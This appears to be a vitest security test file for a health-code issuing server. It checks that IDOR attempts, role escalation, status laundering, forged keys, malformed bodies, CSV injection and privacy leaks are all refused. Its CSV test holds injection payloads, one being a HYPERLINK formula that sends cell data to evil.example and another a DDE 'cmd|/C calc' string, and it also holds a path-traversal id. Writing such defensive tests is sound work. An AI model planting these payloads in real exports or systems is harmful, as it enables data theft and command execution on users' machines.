/**
 * Issue 14's bar in one place: hostile requests against the issuing side, on PGlite and
 * PostgreSQL. IDOR (a holder reaching another's application), roles, privacy (names and ID
 * numbers where they must not be), CSV injection, the laundering paths (renewal across an
 * `until`, re-application after red, bulk status by cid, un-revoking, greener than the
 * rules), signatures, keys, and bodies no parser should choke on. Every check is one `check`
 * line below (its label is the name of the check); any 5xx is a failure of its own.
 */
import { randomUUID } from 'node:crypto';
import type { LightMyRequestResponse } from 'fastify';
import { describe, expect, it } from 'vitest';
import { b64uEncode, decodeEnvelope, sealEnvelope, signerFromSeed, type EntryUpload } from '../../core/index.ts';
import { routeUrl } from '../../core/api/api-client.ts';
import type { ApplicationCreated, ApplicationView } from '../../core/api/holder.ts';
import type { StatusChangeResponse } from '../../core/api/admin-status.ts';
import type { ProposalPending, ReviewApplication } from '../../core/api/review.ts';
import { issueDemoCode } from '../demo/demo-codes.ts';
import { accountWith } from '../test-support/console-account.ts';
import { DB_KINDS, useHarness, usePostgres, type Harness } from '../test-support/harness.ts';
import { applicationBody, applyWith, holderCall, newHolder, newIdNumber, scanHolderCode, scanText } from '../test-support/holder-client.ts';

const cluster = usePostgres();
const clear = { symptoms: false, travel: false, contact: false };
/** The person whose name and ID number the privacy checks look for. */
const SUBJECT = { name: '欧阳秘密', idNumber: newIdNumber().replace(/1234$/, '5678') };

const holderUrl = (id: string, what: 'application' | 'status' | 'scans' | 'corrections' | 'renew') =>
  what === 'application'
    ? routeUrl('GET /api/holder/applications/:id', { id })
    : what === 'renew'
      ? routeUrl('POST /api/holder/applications/:id/renew', { id })
      : routeUrl(`GET /api/holder/applications/:id/${what}`, { id });

async function approved(h: Harness, overrides: Parameters<typeof applicationBody>[1] = {}) {
  const holder = newHolder();
  const created = (await applyWith(h, applicationBody(holder, overrides))).json() as ApplicationCreated;
  expect(created.application.state).toBe('approved');
  return { holder, credential: created.credential, application: created.application, code: created.application.code! };
}

const personOf = async (h: Harness, applicationId: string) =>
  ((await h.admin('GET', routeUrl('GET /api/admin/review/applications/:id', { id: applicationId }))).json() as ReviewApplication).personId!;

/** A status that is never a server error, and the one expected. */
function expectStatus(response: LightMyRequestResponse, status: number, label: string) {
  expect(response.statusCode, `${label}: ${response.body.slice(0, 300)}`).toBe(status);
}

describe.each(DB_KINDS)('hostile requests against the issuing side (%s)', (kind) => {
  const logs: string[] = [];
  const h = useHarness(kind, kind === 'postgres' ? cluster : null, {
    settings: { holderApplyLimit: { max: 1000, windowMs: 3600_000 } },
    logger: { level: 'debug', stream: { write: (line: string) => void logs.push(line) } },
  });
  const now = () => Math.floor(h().clock.now / 1000);

  it('IDOR: a holder reaches only their own application, status, scans and corrections', async () => {
    const mine = await approved(h());
    const theirs = await approved(h());
    for (const what of ['application', 'status', 'scans', 'corrections'] as const) {
      // 1-4: another application's id with my credential
      expectStatus(await holderCall(h(), 'GET', holderUrl(theirs.application.id, what), mine.credential), 401, `${what} of another`);
    }
    // 5: a correction filed on another's application
    const filed = await h().app.inject({
      method: 'POST',
      url: holderUrl(theirs.application.id, 'corrections'),
      headers: { authorization: `Bearer ${mine.credential}` },
      payload: { text: 'not me' },
    });
    expectStatus(filed, 401, 'correction on another');
    // 6: renewing another's code
    expectStatus(await holderCall(h(), 'POST', holderUrl(theirs.application.id, 'renew'), mine.credential), 401, 'renew of another');
    // 7: a guessed credential
    expectStatus(
      await holderCall(h(), 'GET', holderUrl(mine.application.id, 'application'), b64uEncode(new Uint8Array(32))),
      401,
      'guessed',
    );
    // 8: no credential
    expectStatus(await holderCall(h(), 'GET', holderUrl(mine.application.id, 'status'), null), 401, 'no credential');
    // 9: a guessed id with a valid credential
    expectStatus(await holderCall(h(), 'GET', holderUrl(randomUUID(), 'scans'), mine.credential), 401, 'guessed id');
    // 10: an id that is no id
    expectStatus(await holderCall(h(), 'GET', '/api/holder/applications/..%2f..%2fadmin', mine.credential), 400, 'malformed id');
    // 11: the credential as a cookie or query parameter is not a credential
    const inQuery = await h().app.inject({
      method: 'GET',
      url: `${holderUrl(mine.application.id, 'status')}?credential=${mine.credential}`,
    });
    expect(inQuery.statusCode, 'credential in the query').toBeGreaterThanOrEqual(400);
    expect(inQuery.statusCode).toBeLessThan(500);
    // Nothing was filed on their application.
    const [row] = await h().ctx.db.query<{ n: number }>('SELECT count(*)::int AS n FROM corrections');
    expect(row!.n).toBe(0);
  });

  it('roles: each account does only what its role grants', async () => {
    const subject = await approved(h());
    const personId = await personOf(h(), subject.application.id);
    const operator = await accountWith(h(), 'operator');
    const reviewer = await accountWith(h(), 'reviewer');
    const tracer = await accountWith(h(), 'tracer');
    const viewer = await accountWith(h(), 'viewer');
    const personStatus = routeUrl('POST /api/admin/review/persons/:id/status', { id: personId });
    // 12-13: an operator neither changes a person's colour nor approves
    expectStatus(await operator('POST', personStatus, { colour: 'red', reason: 'confirmed_case' }), 403, 'operator colours a person');
    const pending = (
      await applyWith(h(), applicationBody(newHolder(), { declaration: { ...clear, travel: true } }))
    ).json() as ApplicationCreated;
    const approve = routeUrl('POST /api/admin/review/applications/:id/approve', { id: pending.application.id });
    expectStatus(await operator('POST', approve, { colour: 'green', confirmGreener: true }), 403, 'operator approves');
    // 14: an operator's bulk status refuses a reviewed person's cid
    expectStatus(await h().admin('POST', personStatus, { colour: 'yellow', reason: 'travel_risk_area' }), 200, 'admin sets yellow');
    const bulk = await operator('POST', '/api/admin/status', { changes: [{ cid: subject.code.cid, status: 'green' }] });
    expectStatus(bulk, 200, 'operator bulk');
    expect((bulk.json() as StatusChangeResponse).refused?.map((r) => r.why)).toEqual(['reviewed_person']);
    expect((await scanHolderCode(h(), subject.code.bytes, subject.holder, now())).reason).toBe('status_yellow');
    // 15-18: a reviewer does not administer
    expectStatus(
      await reviewer('POST', '/api/admin/accounts', { name: `x-${randomUUID().slice(0, 6)}`, role: 'admin' }),
      403,
      'reviewer adds an admin',
    );
    expectStatus(
      await reviewer('PATCH', routeUrl('PATCH /api/admin/review/settings'), { secondReviewer: { enabled: false } }),
      403,
      'reviewer rules',
    );
    expectStatus(await reviewer('POST', '/api/admin/trust', { payload: 'x', kid: 'y', sig: 'z' }), 403, 'reviewer imports trust');
    expectStatus(await reviewer('GET', '/api/admin/audit'), 403, 'reviewer reads the audit');
    // 19: a tracer without a reason
    const trace = routeUrl('POST /api/admin/traces');
    expectStatus(await tracer('POST', trace, { cid: subject.code.cid, days: 14, windowMinutes: 15 }), 400, 'trace without reason');
    expectStatus(await tracer('POST', trace, { cid: subject.code.cid, days: 14, windowMinutes: 15, reason: '   ' }), 400, 'blank reason');
    // 20: nobody else traces
    for (const [who, call] of [
      ['reviewer', reviewer],
      ['operator', operator],
      ['viewer', viewer],
    ] as const)
      expectStatus(await call('POST', trace, { cid: subject.code.cid, days: 14, windowMinutes: 15, reason: 'x' }), 403, `${who} traces`);
    // 21-22: application data is a reviewer's to read
    expectStatus(await viewer('GET', routeUrl('GET /api/admin/review/applications')), 403, 'viewer reads applications');
    expectStatus(await tracer('GET', routeUrl('GET /api/admin/review/persons/:id', { id: personId })), 403, 'tracer reads a person');
    // 23: no session, no console
    expectStatus(await h().app.inject({ method: 'GET', url: routeUrl('GET /api/admin/review/applications') }), 401, 'no session');
    // 24: a reviewer cannot confirm their own red
    const red = await reviewer('POST', personStatus, { colour: 'red', reason: 'confirmed_case' });
    expectStatus(red, 202, 'red proposed');
    const { proposal } = red.json() as ProposalPending;
    expectStatus(
      await reviewer('POST', routeUrl('POST /api/admin/review/proposals/:id/confirm', { id: proposal.id })),
      409,
      'self-confirm',
    );
    expectStatus(
      await operator('POST', routeUrl('POST /api/admin/review/proposals/:id/confirm', { id: proposal.id })),
      403,
      'operator confirms',
    );
  });

  it('laundering: renewal across an until, re-application after red, bulk on a revoked code, un-revoke, greener than the rules', async () => {
    await h().admin('PATCH', routeUrl('PATCH /api/admin/review/settings'), { secondReviewer: { enabled: false } });
    try {
      // 25: renewal across an until: the renewed code shows the base colour once the until passes
      const temp = await approved(h());
      const tempPerson = routeUrl('POST /api/admin/review/persons/:id/status', { id: await personOf(h(), temp.application.id) });
      expectStatus(await h().admin('POST', tempPerson, { colour: 'yellow', reason: 'test_result' }), 200, 'base yellow');
      expectStatus(
        await h().admin('POST', tempPerson, { colour: 'green', until: now() + 60, reason: 'test_result' }),
        200,
        'green for 60 s',
      );
      const renewed = await holderCall(h(), 'POST', holderUrl(temp.application.id, 'renew'), temp.credential);
      expect(renewed.statusCode).toBeLessThan(300);
      const renewedCode = (renewed.json() as ApplicationView).code;
      expect((await scanHolderCode(h(), renewedCode!.bytes, temp.holder, now())).reason).toBe('ok');
      h().clock.advance(61_000);
      expect((await scanHolderCode(h(), renewedCode!.bytes, temp.holder, now())).reason, 'renewed after until').toBe('status_yellow');

      // 26: re-application after red: same ID, same key, clear declaration waits as a duplicate, no code
      const idNumber = newIdNumber();
      const redOne = await approved(h(), { idNumber });
      const redPerson = routeUrl('POST /api/admin/review/persons/:id/status', { id: await personOf(h(), redOne.application.id) });
      expectStatus(await h().admin('POST', redPerson, { colour: 'red', reason: 'confirmed_case' }), 200, 'red');
      const again = (await applyWith(h(), applicationBody(redOne.holder, { idNumber, declaration: clear }))).json() as ApplicationCreated;
      expect(again.application.state).toBe('pending');
      expect(again.application.code).toBeUndefined();
      // 27: green over that red needs the explicit confirmation, and nothing is written without it
      const approve = routeUrl('POST /api/admin/review/applications/:id/approve', { id: again.application.id });
      expectStatus(await h().admin('POST', approve, { colour: 'green' }), 409, 'greener than the person');
      expect((await scanHolderCode(h(), redOne.code.bytes, redOne.holder, now())).reason).toBe('status_red');
      // 28: greener than a declared symptom, too
      const symptoms = (
        await applyWith(h(), applicationBody(newHolder(), { declaration: { ...clear, symptoms: true } }))
      ).json() as ApplicationCreated;
      const approveSymptoms = routeUrl('POST /api/admin/review/applications/:id/approve', { id: symptoms.application.id });
      expectStatus(await h().admin('POST', approveSymptoms, { colour: 'green' }), 409, 'green over symptoms');
      expectStatus(await h().admin('POST', approveSymptoms, { colour: 'green', confirmGreener: true }), 200, 'confirmed green');

      // 29: bulk status by cid on a revoked code
      const revoked = await approved(h());
      expectStatus(
        await h().admin('POST', routeUrl('POST /api/admin/review/applications/:id/revoke', { id: revoked.application.id }), {
          reason: 'lost',
        }),
        200,
        'revoke',
      );
      const bulk = (
        await h().admin('POST', '/api/admin/status', { changes: [{ cid: revoked.code.cid, status: 'green' }] })
      ).json() as StatusChangeResponse;
      expect(bulk.refused?.map((r) => r.why)).toEqual(['revoked']);
      // 30: a person's new colour does not un-revoke the revoked code
      const revokedPerson = routeUrl('POST /api/admin/review/persons/:id/status', { id: await personOf(h(), revoked.application.id) });
      expectStatus(await h().admin('POST', revokedPerson, { colour: 'yellow', reason: 'test_result' }), 200, 'person yellow');
      expect((await scanHolderCode(h(), revoked.code.bytes, revoked.holder, now())).reason).toBe('revoked');
      // 31: undoing a revocation batch does not un-revoke either
      const foreign = b64uEncode(new Uint8Array(16).fill(42));
      const batch = (
        await h().admin('POST', '/api/admin/status', { changes: [{ cid: foreign, status: 'revoked' }] })
      ).json() as StatusChangeResponse;
      const undo = await h().admin('POST', routeUrl('POST /api/admin/status/batches/:id/undo', { id: batch.batchId! }));
      expect(undo.statusCode).toBe(409);
      expect(((await h().admin('GET', routeUrl('GET /api/admin/status/:cid', { cid: foreign }))).json() as { status: string }).status).toBe(
        'revoked',
      );
    } finally {
      await h().admin('PATCH', routeUrl('PATCH /api/admin/review/settings'), { secondReviewer: { enabled: true } });
    }
  });

  it('signatures and keys: forged proofs, small-order keys, unknown key ids, bundles that drop the status key', async () => {
    const subject = await approved(h());
    // 32: a holder-bound code presented with another key's proof
    expect((await scanHolderCode(h(), subject.code.bytes, newHolder(), now())).reason).toBe('bad_holder_proof');
    // 33-34: holder keys of small order (identity, and a point of order 8) are refused at apply
    for (const key of [new Uint8Array(32), Uint8Array.from([1, ...new Array(31).fill(0)])]) {
      const response = await applyWith(h(), applicationBody(newHolder(), { holderKey: b64uEncode(key) }));
      expectStatus(response, 400, 'small-order key');
      expect(response.json().field).toBe('holderKey');
    }
    // 35: a code signed by a key the bundle does not list
    const stranger = await issueDemoCode(
      signerFromSeed(new Uint8Array(32).fill(3)),
      { status: 'green', name: 'X', hint: '', region: 0, validDays: 1 },
      now(),
    );
    expect((await scanText(h(), stranger.text, now())).reason).toBe('unknown_issuer');
    // 36: a trust bundle whose kid is not the root's, and 37: one signed by another root
    const bundle = await h().trustBundle();
    const doc = (seq: number, keys: typeof bundle.keys) => ({
      type: 'gc1-trust',
      seq,
      issuedAt: now(),
      expiresAt: now() + 86_400,
      keys: keys.map((k) => ({ ...k, publicKey: b64uEncode(k.publicKey) })),
    });
    const signed = await sealEnvelope(doc(bundle.seq + 1, bundle.keys), signerFromSeed(h().rootSeed));
    const before = await h().count('trust_bundles');
    const wrongKid = await h().admin('POST', '/api/admin/trust', { ...signed, kid: b64uEncode(new Uint8Array(8).fill(1)) });
    expect(wrongKid.statusCode).toBe(400);
    const foreignRoot = await h().admin(
      'POST',
      '/api/admin/trust',
      await sealEnvelope(doc(bundle.seq + 1, bundle.keys), signerFromSeed(new Uint8Array(32).fill(8))),
    );
    expect(foreignRoot.statusCode).toBe(400);
    // 38: a bundle (signed by the root) that drops this server's status key is refused: it would stop status sync
    const dropped = await h().admin(
      'POST',
      '/api/admin/trust',
      await sealEnvelope(
        doc(
          bundle.seq + 1,
          bundle.keys.filter((k) => k.use !== 'status'),
        ),
        signerFromSeed(h().rootSeed),
      ),
    );
    expect(dropped.statusCode).toBe(400);
    expect(dropped.json().problem).toBe('status_key_missing');
    expect(await h().count('trust_bundles')).toBe(before);
    // 39: every status list the server ever signed is signed by a status key the served bundle lists
    const listed = new Set((await h().trustBundle()).keys.filter((k) => k.use === 'status').map((k) => k.kid));
    const envelopes = await h().ctx.db.query<{ envelope: string }>(
      'SELECT envelope FROM status_deltas UNION ALL SELECT envelope FROM status_snapshots',
    );
    expect(envelopes.length).toBeGreaterThan(0);
    for (const { envelope } of envelopes) expect(listed.has(b64uEncode(decodeEnvelope(JSON.parse(envelope))!.kid))).toBe(true);
  });

  it('bodies: NUL, bidi, invisible and oversize input is a clear 4xx that writes nothing, never a 5xx', async () => {
    const subject = await approved(h());
    const applications = await h().count('holder_applications');
    const tracer = await accountWith(h(), 'tracer');
    /** An application whose body is `payload` as sent, not serialised from an object. */
    const applyRaw = (payload: string) =>
      h().app.inject({
        method: 'POST',
        url: routeUrl('POST /api/holder/applications'),
        headers: { 'content-type': 'application/json' },
        payload,
      });
    const cases: [string, () => Promise<LightMyRequestResponse>, number][] = [
      // 40-44: names and ID numbers
      ['NUL in a name', () => applyWith(h(), applicationBody(newHolder(), { name: '张\u0000三' })), 400],
      ['bidi control in a name', () => applyWith(h(), applicationBody(newHolder(), { name: '\u202e张三' })), 400],
      ['invisible-only name', () => applyWith(h(), applicationBody(newHolder(), { name: '\u200b\u2060\u200b' })), 400],
      ['bidi control in an ID number', () => applyWith(h(), applicationBody(newHolder(), { idNumber: '4403\u202e01199001011234' })), 400],
      ['lone surrogate in a name', () => applyWith(h(), applicationBody(newHolder(), { name: '张\ud800三' })), 400],
      // 45-48: free text elsewhere
      [
        'NUL in a correction',
        () =>
          h().app.inject({
            method: 'POST',
            url: holderUrl(subject.application.id, 'corrections'),
            headers: { authorization: `Bearer ${subject.credential}` },
            payload: { text: 'wrong\u0000' },
          }),
        400,
      ],
      ['NUL in a checkpoint name', () => h().admin('POST', '/api/admin/checkpoints', { name: 'North\u0000Gate' }), 400],
      [
        'NUL in a trace reason',
        () => tracer('POST', routeUrl('POST /api/admin/traces'), { cid: subject.code.cid, reason: 'x\u0000' }),
        400,
      ],
      [
        'NUL in a rejection reason',
        () => h().admin('POST', routeUrl('POST /api/admin/review/applications/:id/reject', { id: randomUUID() }), { reason: 'no\u0000' }),
        400,
      ],
      // 49-52: size and syntax
      ['an oversize application', () => applyWith(h(), { ...applicationBody(newHolder()), name: '张'.repeat(20_000) }), 413],
      [
        'an oversize console body',
        () => h().admin('POST', '/api/admin/checkpoints', { name: 'x', site: 'y'.repeat(5 * 1024 * 1024) }),
        413,
      ],
      ['JSON that does not parse', () => applyRaw('{"name":'), 400],
      ['a body that is no object', () => applyRaw('[]'), 400],
    ];
    for (const [label, send, status] of cases) expectStatus(await send(), status, label);
    expect(await h().count('holder_applications')).toBe(applications);
    // An entry uploaded by a device with NUL and bidi text in it: refused per entry or stored harmlessly, never a 5xx.
    const device = await h().enroll('Hostile gate');
    const entry: EntryUpload = {
      id: randomUUID(),
      time: h().clock.now,
      checkpoint: 'gate\u0000\u202e',
      direction: 'in',
      reason: 'ok',
      decision: 'admit',
      cid: subject.code.cid,
      kid: 'AAECAwQFBgc',
    };
    const upload = await h().app.inject({
      method: 'POST',
      url: '/api/entries',
      headers: { authorization: `Bearer ${device.credential}` },
      payload: { entries: [entry] },
    });
    expect(upload.statusCode, upload.body).toBeLessThan(500);
  });

  it('CSV: text a spreadsheet would run is neutralised in the entries and audit exports', async () => {
    const device = await h().enroll('=HYPERLINK("http://evil.example/?"&A1,"open")');
    const entry: EntryUpload = {
      id: randomUUID(),
      time: h().clock.now,
      checkpoint: '@SUM(1+1)*cmd|/C calc!A0',
      direction: 'in',
      reason: 'ok',
      decision: 'admit',
      cid: b64uEncode(new Uint8Array(16).fill(9)),
      kid: 'AAECAwQFBgc',
    };
    const upload = await h().app.inject({
      method: 'POST',
      url: '/api/entries',
      headers: { authorization: `Bearer ${device.credential}` },
      payload: { entries: [entry] },
    });
    expect(upload.statusCode).toBe(200);
    // 53: entries.csv
    const csv = (await h().admin('GET', '/api/admin/entries.csv')).body;
    const cells = csv.split(/\r\n/).flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')));
    expect(
      cells.some((cell) => /^[=@+\-\t\r]/.test(cell)),
      'a cell starts a formula in entries.csv',
    ).toBe(false);
    expect(csv).toContain("'@SUM");
    // 54: audit.csv (the checkpoint's name is an audit target)
    const audit = (await h().admin('GET', '/api/admin/audit.csv')).body;
    const auditCells = audit.split(/\r\n/).flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')));
    expect(
      auditCells.some((cell) => /^[=@\t\r]/.test(cell)),
      'a cell starts a formula in audit.csv',
    ).toBe(false);
  });

  // Last: it reads what every check above left behind.
  it('privacy: a name and an ID number stay in the issuance tables; logs, entries, audit, CSV, metrics and traces hold neither', async () => {
    const subject = await approved(h(), { name: SUBJECT.name, idNumber: SUBJECT.idNumber });
    const device = await h().enroll('Privacy gate');
    const entry: EntryUpload = {
      id: randomUUID(),
      time: h().clock.now,
      checkpoint: 'gate',
      direction: 'in',
      reason: 'ok',
      decision: 'admit',
      cid: subject.code.cid,
      kid: 'AAECAwQFBgc',
    };
    await h().app.inject({
      method: 'POST',
      url: '/api/entries',
      headers: { authorization: `Bearer ${device.credential}` },
      payload: { entries: [entry] },
    });
    const personStatus = routeUrl('POST /api/admin/review/persons/:id/status', { id: await personOf(h(), subject.application.id) });
    await h().admin('POST', personStatus, { colour: 'yellow', reason: 'test_result' });
    const tracer = await accountWith(h(), 'tracer');
    expectStatus(
      await tracer('POST', routeUrl('POST /api/admin/traces'), { cid: subject.code.cid, reason: 'privacy probe' }),
      200,
      'trace',
    );
    const secrets = [SUBJECT.name, SUBJECT.idNumber];
    // 55: every table but the issuance ones (the application keeps the name and number it was given)
    const tables = await h().ctx.db.query<{ name: string }>(
      "SELECT table_name AS name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'",
    );
    const issuance = new Set(['holder_applications']);
    // The search finds them where they belong (so finding nothing elsewhere means something).
    for (const secret of secrets) {
      const [kept] = await h().ctx.db.query<{ n: number }>('SELECT count(*)::int AS n FROM holder_applications t WHERE t::text LIKE $1', [
        `%${secret}%`,
      ]);
      expect(kept!.n).toBe(1);
    }
    for (const { name } of tables) {
      if (issuance.has(name)) continue;
      for (const secret of secrets) {
        const [found] = await h().ctx.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM "${name}" t WHERE t::text LIKE $1`, [
          `%${secret}%`,
        ]);
        expect(found!.n, `${secret} in ${name}`).toBe(0);
      }
    }
    // 56-59: exports, metrics and the log
    const exported = [
      ['entries.csv', (await h().admin('GET', '/api/admin/entries.csv')).body],
      ['audit.csv', (await h().admin('GET', '/api/admin/audit.csv')).body],
      ['metrics', (await h().app.inject({ method: 'GET', url: '/metrics' })).body],
      ['the log', logs.join('')],
    ] as const;
    expect(logs.length).toBeGreaterThan(0);
    for (const [where, text] of exported) for (const secret of secrets) expect(text.includes(secret), `${secret} in ${where}`).toBe(false);
  });
});
